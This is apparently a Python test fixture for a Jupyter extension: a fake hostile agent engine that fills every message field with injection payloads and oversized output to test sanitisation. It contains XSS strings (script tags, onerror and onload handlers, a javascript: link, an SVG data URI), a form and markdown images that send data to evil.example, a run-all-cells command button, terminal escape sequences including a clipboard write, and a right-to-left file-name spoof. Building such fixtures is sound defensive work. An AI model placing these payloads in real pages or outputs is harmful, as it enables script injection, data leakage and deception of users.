"""A local service whose agent is hostile: names, thoughts, calls, results, answers and errors. `python -m` runs it."""

from __future__ import annotations

import asyncio
import json
import sys
from pathlib import Path

from secgemini_jupyter.local_server import engines, serve
from secgemini_jupyter.local_server.engines.base import EngineTurn
from secgemini_jupyter.models import MessageType, ModelInfo, Role, State

EVIL = (
    "<img src=x onerror='window.pwned=1'><script>window.pwned=2</script>"
    "<svg onload='window.pwned=4'></svg><style>body{display:none}</style>"
    "<form id=login action=//evil.example><input name=body></form>"
    "<button data-commandlinker-command='notebook:run-all-cells' data-commandlinker-args='{}'>go</button>"
    "$$\\href{https://evil.example/tex}{tex}$$ \\(x^2\\) $5, then $6 "
    "\x1b]52;c;aGk=\x07\x1b[2J\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07 \u202egpj.exe\u202c "
)
MARKDOWN = (
    "![x](https://evil.example/leak?q=1) ![y][z] <https://evil.example/1> [click](javascript:window.pwned=3) "
    "![d](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5wd25lZD01Ii8+)\n\n[z]: https://evil.example/leak?q=2\n\n"
)
HUGE = 5_000_000
PAUSE = 0.15
"""Seconds between two messages: each is drawn while the turn runs."""


class EvilEngine:
    """Hostile in every field that it has. A prompt with `error` ends in one, one with `huge` is 5 MB long."""

    actor = EVIL
    model = ModelInfo(model_name=EVIL, version=EVIL, model_string="evil", description=EVIL)

    async def answer(self, turn: EngineTurn) -> None:
        if "huge" in turn.prompt:
            await self._huge(turn)
            return
        call = {"id": "c", "name": EVIL, "args": {EVIL: EVIL, "deep": [[[[EVIL]]]]}}
        back = {"id": "c", "name": EVIL, "response": {"error": EVIL * 20}}
        later = {"id": "d", "name": "open_one", "args": {"x": EVIL}}
        steps = [
            (MessageType.INFO, "Executing " + EVIL, State.RUNNING_AGENT, {}),
            (MessageType.THINKING, EVIL * 50, State.THINKING, {"title": EVIL}),
            (MessageType.DEBUG, json.dumps(call), State.CALLING_TOOL, {}),
            (MessageType.DEBUG, json.dumps(back), State.TOOL_RESULT, {}),
            (MessageType.SOURCE, EVIL, State.THINKING, {"title": EVIL}),
            (MessageType.DEBUG, json.dumps(later), State.CALLING_TOOL, {}),
        ]
        for kind, content, state, more in steps:
            await turn.say(kind, content, state=state, role=Role.AGENT, actor=EVIL, **more)
            await asyncio.sleep(PAUSE)
        pieces = [EVIL, MARKDOWN, "<details open>" * 50, "- " * 200, "\n\n```html\n" + EVIL]
        for piece in pieces if turn.partial else []:
            await turn.say(MessageType.RESULT, piece, state=State.ANSWERING, role=Role.AGENT, status_code=206)
            await asyncio.sleep(PAUSE)
        await turn.say(MessageType.RESULT, "".join(pieces), state=State.ANSWERING, role=Role.AGENT)
        for mime_type in ("text/html", "sec-gemini/html", "image/svg+xml", "sec-gemini/json", "sec-gemini/table", EVIL):
            await turn.say(
                MessageType.RESULT, EVIL + MARKDOWN, state=State.AGENT_DONE, role=Role.AGENT, mime_type=mime_type
            )
        if "error" in turn.prompt:
            await turn.say(
                MessageType.ERROR, EVIL, state=State.UNDEFINED, role=Role.AGENT, status_code=500, status_message=EVIL
            )

    async def _huge(self, turn: EngineTurn) -> None:
        """One line of 1 MB, 10,000 nested lists, and paragraphs up to 5 MB."""
        nested = "".join("  " * (n % 400) + "- x\n" for n in range(10_000))
        texts = ["w" * 1_000_000 + "\n\n", nested[:900_000] + "\n\n"]
        texts += [f"Paragraph {n} " + "of words " * 90 + "\n\n" for n in range((HUGE - sum(map(len, texts))) // 850)]
        for start in range(0, len(texts), 40):
            content = "".join(texts[start : start + 40])
            for cut in range(0, len(content), 500_000):
                piece = content[cut : cut + 500_000]
                await turn.say(MessageType.RESULT, piece, state=State.ANSWERING, role=Role.AGENT, status_code=206)
                await asyncio.sleep(0)
        await turn.say(MessageType.RESULT, "THE END", state=State.AGENT_DONE, role=Role.AGENT)

    async def aclose(self) -> None:
        """Nothing to end."""


if __name__ == "__main__":
    engines.ENGINES["evil"] = EvilEngine  # type: ignore[index]
    serve.serve(data=Path(sys.argv[1]), engine="evil")
